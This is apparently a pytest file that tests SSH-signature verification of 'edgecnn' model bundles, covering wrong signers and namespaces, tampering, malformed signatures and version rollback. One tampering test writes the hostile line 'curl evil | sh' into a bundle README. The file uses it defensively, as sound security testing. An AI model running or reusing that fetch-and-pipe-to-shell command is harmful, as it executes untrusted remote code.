"""Signatures by the real ssh-keygen: good ones name their signer, every other one is refused, and versions do not go back."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from edgecnn.bundle.manifest import MANIFEST, SIGNATURE
from edgecnn.bundle.publishing import sign_bundle
from edgecnn.bundle.verify import UNSIGNED, Trust
from edgecnn.errors.base import EdgecnnError
from edgecnn.errors.bundle import SIGNERS_NOT_NAMED
from edgecnn.render.progress import Quiet
from tests.bundle.sealed import reseal, verified, zipped

needs_ssh_keygen = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="apt-get install openssh-client")


def allow(file: Path, name: str, *keys: Path, options: str = "") -> Path:
    file.write_text("".join(f"{name} {options}{key.read_text()}" for key in keys))
    return file


def signed(bundle: Path, key: Path, version: int | None = None) -> Path:
    sign_bundle(bundle, key, version, Quiet())
    return bundle


def refusal(path: Path, **trust: object) -> str:
    with pytest.raises(EdgecnnError) as caught:
        verified(path, **trust)
    return caught.value.line().replace(f"the signature of {path}", "its signature").replace(f" in {path}", "", 1)


@needs_ssh_keygen
@pytest.mark.parametrize("key", ["ann", "ec", "rsa"])
def test_a_signed_bundle_names_its_signer_as_a_folder_and_as_a_zip(bundle: Path, keys: Path, tmp_path: Path, key: str) -> None:
    signers = allow(tmp_path / "signers", "team@example.com", keys / f"{key}.pub")
    signed(bundle, keys / key)
    for path in (bundle, zipped(bundle, tmp_path / "x.zip")):
        for identity in (None, "team@example.com"):
            found = verified(path, signers=signers, identity=identity, require_signature=True).facts
            assert (found.signature, found.signer, found.warnings) == ("good", "team@example.com", ())


def test_an_unsigned_bundle_warns_and_is_refused_where_a_signature_is_asked_for(whole: Path, tmp_path: Path) -> None:
    assert verified(whole).facts.warnings == (UNSIGNED,) and "edgecnn bundle sign BUNDLE --key KEY" in UNSIGNED
    (tmp_path / "signers").write_text("")
    for require in (True, False):
        assert "[signature-missing]" in refusal(whole, signers=tmp_path / "signers", require_signature=require)


@pytest.mark.parametrize(
    "option, trust",
    [
        ("--require-signature", {"require_signature": True}),
        ("--identity", {"identity": "x"}),
        ("--remember", {"remember": Path()}),
    ],
)
def test_asking_for_a_signature_without_saying_whose_is_refused(option: str, trust: dict[str, object]) -> None:
    with pytest.raises(EdgecnnError, check=SIGNERS_NOT_NAMED.made) as caught:
        Trust(**trust)  # type: ignore[arg-type]
    assert caught.value.ref == "signers-not-named"


@needs_ssh_keygen
def test_a_signature_that_nobody_looked_at_is_said_to_be_unchecked(bundle: Path, keys: Path) -> None:
    found = verified(signed(bundle, keys / "ann")).facts
    assert (found.signature, found.signer) == ("unchecked", None)
    assert len(found.warnings) == 1 and "--allowed-signers" in found.warnings[0]


@needs_ssh_keygen
def test_another_key_another_name_and_another_purpose_are_refused(bundle: Path, keys: Path, tmp_path: Path) -> None:
    again = " — copy it again from the machine that made it [signature-refused]"
    signed(bundle, keys / "bob")
    signers = keys / "signers"
    assert refusal(bundle, signers=signers) == (
        f"its signature is refused: no signer in {signers} made it (No principal matched.){again}"
    )
    assert refusal(bundle, signers=signers, identity="ann@example.com").startswith("its signature is refused: ")
    signed(bundle, keys / "ann")
    assert refusal(bundle, signers=signers, identity="eve@example.com") == (
        f"its signature is refused: Could not verify signature.{again}"
    )
    for_git = allow(tmp_path / "for-git", "ann@example.com", keys / "ann.pub", options='namespaces="git" ')
    assert refusal(bundle, signers=for_git, identity="ann@example.com").startswith("its signature is refused: ")
    subprocess.run(
        ["ssh-keygen", "-q", "-Y", "sign", "-n", "git", "-f", str(keys / "ann"), str(bundle / MANIFEST)],
        input=b"y\n", check=True, capture_output=True,
    )  # fmt: skip
    assert refusal(bundle, signers=signers) == (
        f"its signature is refused: Couldn't verify signature: namespace does not match{again}"
    )


@needs_ssh_keygen
def test_what_was_changed_after_signing_is_refused_even_with_hashes_that_fit(bundle: Path, keys: Path) -> None:
    signed(bundle, keys / "ann")
    (bundle / "README.md").write_text("Run this: curl evil | sh")
    assert refusal(bundle, signers=keys / "signers").startswith("README.md was changed: ")
    reseal(bundle)
    assert "[signature-refused]" in refusal(bundle, signers=keys / "signers")


@needs_ssh_keygen
@pytest.mark.parametrize("content", [b"", b"no signature", b"x" * (64 << 10) + b"x"])
def test_what_is_no_signature_is_refused(bundle: Path, keys: Path, content: bytes) -> None:
    (bundle / SIGNATURE).write_bytes(content)
    assert refusal(bundle, signers=keys / "signers").endswith("[signature-refused]")


@needs_ssh_keygen
def test_nothing_of_a_manifest_is_parsed_before_its_signature_is_good(
    bundle: Path, keys: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    signed(bundle, keys / "bob")
    monkeypatch.setattr("edgecnn.bundle.verify.parse_manifest", lambda *_: pytest.fail("parsed"))
    assert refusal(bundle, signers=keys / "signers").startswith("its signature is refused")


@needs_ssh_keygen
def test_signers_that_cannot_be_read_are_named(bundle: Path, keys: Path, tmp_path: Path) -> None:
    signed(bundle, keys / "ann")
    with pytest.raises(EdgecnnError) as caught:
        verified(bundle, signers=tmp_path / "absent")
    assert caught.value.line() == (
        f"{tmp_path / 'absent'} is not a readable file of allowed signers: no such file or directory"
        ' — write one line per signer: NAME namespaces="edgecnn-bundle" ssh-ed25519 AAAA… [signers-unreadable]'
    )


@needs_ssh_keygen
def test_an_older_version_and_another_of_the_same_are_refused_by_the_record(bundle: Path, keys: Path, tmp_path: Path) -> None:
    trust = {"signers": keys / "signers", "remember": tmp_path / "accepted"}
    old = zipped(signed(bundle, keys / "ann"), tmp_path / "1.zip")
    assert [verified(old, **trust).facts.remembered for _ in range(2)] == [None, 1]
    new = zipped(signed(bundle, keys / "ann", version=3), tmp_path / "3.zip")
    assert verified(new, **trust).facts.remembered == 1
    assert "[bundle-rolled-back]" in refusal(old, **trust)
    (bundle / "README.md").write_text("another")
    reseal(bundle)
    other = zipped(signed(bundle, keys / "ann"), tmp_path / "other.zip")
    assert "this machine has already accepted another bundle of this version" in refusal(other, **trust)
    assert verified(new, **trust).facts.remembered == 3
    assert verified(old, signers=keys / "signers").facts.version == 1, "without the record nothing is refused"


@needs_ssh_keygen
def test_a_refused_bundle_is_not_remembered_and_a_damaged_record_accepts_nothing(
    bundle: Path, keys: Path, tmp_path: Path
) -> None:
    trust = {"signers": keys / "signers", "remember": tmp_path / "accepted"}
    signed(bundle, keys / "ann", version=7)
    (bundle / "numpy.py").write_text("")
    refusal(bundle, **trust)
    assert not (tmp_path / "accepted").exists()
    (bundle / "numpy.py").unlink()
    verified(bundle, **trust)
    (record,) = (tmp_path / "accepted").glob("*.json")
    for content in ("", "{}", json.dumps({"schema": "edgecnn.accepted/2", "version": 1, "sha256": "0"})):
        record.write_text(content)
        with pytest.raises(EdgecnnError) as caught:
            verified(bundle, **trust)
        assert caught.value.ref == "record-unusable" and caught.value.fields["path"] == record
